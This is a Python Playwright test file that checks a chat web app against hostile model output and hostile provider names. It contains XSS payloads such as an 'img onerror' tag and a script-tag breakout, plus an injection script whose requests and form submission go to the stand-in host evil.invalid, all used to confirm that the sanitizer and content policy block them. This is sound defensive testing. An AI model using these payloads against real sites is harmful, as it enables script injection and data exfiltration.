"""A hostile model in the real browser: nothing runs, nothing leaves, the page stays itself and answers."""

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.e2e.chat import PATIENCE, Chat
from tests.e2e.findings import FINDINGS
from tests.e2e.held import Held
from tests.e2e.hostile import CORPUS, DIRECTIONS, SCRIPTS, SLOW_CODE
from tests.e2e.site import Site
from tests.e2e.visits import Visits
from tests.e2e.words import words
from tests.support.scripted_upstream import Answer, Received, ScriptedUpstream, Status
from tests.support.upstream_answers import chunk
from tests.support.upstream_reply import Reply

say = words("en")
END = "the end of the hostile answer"
CALM = 5_000  # milliseconds without an answer to a press, beside other work: what hangs a page does for minutes

AT_EVERY_CHANGE = f"""
() => {{
  window.found = []
  window.looks = 0
  const look = {FINDINGS}
  const everything = document.querySelector("[data-messages]")
  new MutationObserver(() => {{
    window.looks++
    for (const prose of everything.querySelectorAll(".prose")) window.found.push(...look(prose))
  }}).observe(everything, {{ childList: true, subtree: true, attributes: true }})
}}
"""
SLOWEST = """
() => {
  window.slowest = 0
  let last = performance.now()
  setInterval(() => {
    const now = performance.now()
    window.slowest = Math.max(window.slowest, now - last)
    last = now
  }, 20)
}
"""

# As if something had got past the sanitizer: what the page's policy has stopped, by directive.
INTRUDE = """
async (awaited) => {
  const stopped = new Set()
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => stopped.add(effectiveDirective))
  const add = (name, traits) => {
    const element = document.createElement(name)
    for (const [trait, value] of Object.entries(traits)) element.setAttribute(trait, value)
    document.body.append(element)
    return element
  }
  const script = document.createElement("script")
  script.textContent = "window.pwned = 1"
  document.body.append(script)
  add("script", { src: "https://evil.invalid/x.js" })
  add("button", { onclick: "window.pwned = 1" }).click()
  add("p", { style: "position: fixed" })
  add("style", {}).textContent = "p { position: fixed }"
  add("link", { rel: "stylesheet", href: "https://evil.invalid/x.css" })
  add("img", { src: "https://evil.invalid/x.png" })
  add("iframe", { src: "https://evil.invalid/" })
  add("object", { data: "https://evil.invalid/x" })
  add("audio", { src: "https://evil.invalid/x.mp3" }).load()
  add("base", { href: "https://evil.invalid/" })
  add("form", { action: "https://evil.invalid/", target: "_blank" }).submit()
  const tries = [() => eval("window.pwned = 1"), () => new Worker("data:text/javascript,1"), () => new Function("1")]
  for (const attempt of tries) setTimeout(attempt) // on their own: within this function eval is let through
  await fetch("https://evil.invalid/", { mode: "no-cors" }).catch(() => null)
  const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds))
  for (let tries = 0; stopped.size < awaited && tries < 200; tries++) await pause(50)
  await pause(300)
  return [...stopped].sort()
}
"""
STOPPED = {
    *("script-src-elem", "script-src-attr", "script-src", "style-src-attr", "style-src-elem", "img-src", "frame-src"),
    *("object-src", "media-src", "base-uri", "form-action", "connect-src", "worker-src"),
}

pytestmark = pytest.mark.browser


@pytest.fixture
def chat(visits: Visits, script: ScriptedUpstream) -> Chat:
    chat = Chat(visits.open("/"), say)
    chat.page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
    chat.page.on("popup", lambda popup: pytest.fail(f"a window opened: {popup.url}"))
    return chat


def _findings(chat: Chat) -> list[Any]:
    found: list[Any] = chat.prose.evaluate(FINDINGS)
    return found


def _expect_unharmed(page: Page, visits: Visits) -> None:
    assert page.evaluate("window.pwned") is None
    assert visits.watch(page).strangers == []
    assert page.evaluate("typeof document.createElement + typeof document.body.append") == "functionfunction"
    expect(page.locator("[data-composer-text]")).to_have_count(1)
    expect(page.locator("#main")).to_have_count(1)


@pytest.mark.security("links-tame", "provider-events")
@pytest.mark.parametrize("kind", CORPUS)
def test_a_hostile_answer_does_nothing(kind: str, chat: Chat, visits: Visits, script: ScriptedUpstream) -> None:
    script.script(Answer(text=f"{CORPUS[kind]}\n\n```\n{END}\n```\n", thinking=CORPUS[kind][:5_000]))
    chat.page.evaluate(SLOWEST)
    chat.ask("Attack.")
    chat.answer.locator("summary").click()
    for at_last in ("streamed", "stored"):
        chat.prose.get_by_text(END).wait_for()
        assert _findings(chat) == [], at_last
        chat.answer.hover()
        _expect_unharmed(chat.page, visits)
        if at_last == "streamed":
            assert chat.page.evaluate("window.slowest") < CALM
            chat.page.reload()


def test_long_code_gets_its_colours_and_what_takes_too_long_stays_as_it_was(
    chat: Chat, script: ScriptedUpstream
) -> None:
    long = "def name(value):\n    return value + 1\n\n\n" * 150
    script.script(Answer(text=f"{SLOW_CODE}\n\n```python\n{long}```\n"))
    chat.ask("Write long code.")
    codes = chat.prose.locator("pre code")
    expect(codes.last.locator(".hljs-keyword")).to_have_count(300, timeout=PATIENCE)
    assert codes.last.text_content() == long
    slow = codes.first
    assert slow.locator("span").count() == 0
    assert slow.text_content() == "Aa" * 19_500 + "\n"


def test_long_code_gets_its_colours_once_what_finds_them_has_come(
    visits: Visits, script: ScriptedUpstream, site: Site
) -> None:
    long = "def name(value):\n    return value + 1\n\n\n" * 150
    script.script(*[Answer(text=f"```python\n{long}```\n")] * 2)
    started = list(site.server.chat("Write long code."))
    page = visits.open("/")
    lost = Held(page, "**/highlight.js")
    page.goto(f"/c/{started[0][1]['conversation_id']}")
    lost.wait().abort()
    page.unroute_all()
    codes = page.locator(".prose pre code")
    page.wait_for_timeout(500)
    assert codes.text_content() == long, "it can be read"
    assert codes.locator("span").count() == 0
    visits.forgive("highlight.js")
    Chat(page, say).ask("And more of it.")
    for code in (codes.last, codes.first):
        expect(code.locator(".hljs-keyword")).to_have_count(300, timeout=PATIENCE)


@pytest.mark.security("markup-inert")
def test_no_moment_of_a_hostile_answer_is_dangerous(chat: Chat, visits: Visits, script: ScriptedUpstream) -> None:
    text = "\n\n".join(part for part in CORPUS.values() if len(part) < 5_000)
    script.script(Answer(text=text, tokens_per_second=300))
    chat.page.evaluate(AT_EVERY_CHANGE)
    chat.ask("Attack slowly.")
    assert chat.page.evaluate("window.looks") > 20, "the answer must have been seen while it grew"
    assert chat.page.evaluate("window.found") == []
    _expect_unharmed(chat.page, visits)


NAME = "<img src=x onerror=window.pwned=1>"


class _HostileNames:
    """An answer whose model, reason and other names are markup."""

    def play(self, reply: Reply, request: Received) -> None:
        reply.open_stream()
        reply.event(chunk(NAME, 1, {"content": "an answer"}))
        reply.event(chunk(NAME, 1, {}, f"{NAME}</script><script>window.pwned=1</script>"))
        reply.event(b"[DONE]")
        reply.finish()


@pytest.fixture
def hostile_names(site: Site, script: ScriptedUpstream) -> Iterator[None]:
    """A provider that lists a model with such a name, says so where it refuses, and answers under it."""
    hostile = {"label": "hostile", "secret": "sk-hostile-0", "base_url": script.base_url, "provider_name": "Hostile"}
    offered, script.models = script.models, [NAME, f"</script>{NAME}"]
    key = site.ask("POST", "/api/admin/keys", hostile)
    script.models = offered
    script.script(_HostileNames())
    list(site.server.chat(NAME))
    script.script(Status(402, f"no balance {NAME}"))
    list(site.server.chat(f"</script>{NAME}"))
    yield
    site.ask("DELETE", f"/api/admin/keys/{key['id']}")


@pytest.mark.security("output-untrusted")
def test_names_from_a_hostile_provider_are_words_on_every_page(hostile_names: None, visits: Visits, site: Site) -> None:
    seen = ""
    for path in ("/", "/dashboard", *(f"/admin{part}" for part in ("", "/keys", "/models", "/prices", "/records"))):
        page = visits.open(path)
        page.wait_for_load_state("networkidle")
        seen += page.locator("body").inner_text()
        assert page.evaluate("window.pwned") is None, path
        assert page.locator("img[src=x]").count() == 0, path
        page.close()
    assert seen.count(NAME) > 4, "they must have been shown"


@pytest.mark.security("content-policy")
def test_the_policy_stops_what_gets_past_the_sanitizer(browser: Browser, site: Site) -> None:
    context = browser.new_context(base_url=site.url)
    name, value = site.session
    context.add_cookies([{"name": name, "value": value, "url": site.url}])
    page = context.new_page()
    for path in ("/", "/admin/records"):
        page.goto(path)
        assert set(page.evaluate(INTRUDE, len(STOPPED))) == STOPPED, path
        assert page.evaluate("window.pwned") is None
    context.close()


def test_the_search_for_what_is_dangerous_finds_it(browser: Browser) -> None:
    page = browser.new_page()
    look = f"html => ({FINDINGS})(new DOMParser().parseFromString(html, 'text/html').body)"
    assert len(page.evaluate(look, SCRIPTS)) > 20
    assert len(page.evaluate(look, DIRECTIONS)) == 4
    assert page.evaluate(look, "<a href='https://x.invalid' target=_blank rel=noopener>x</a><p class=y>z</p>") == []
    page.close()
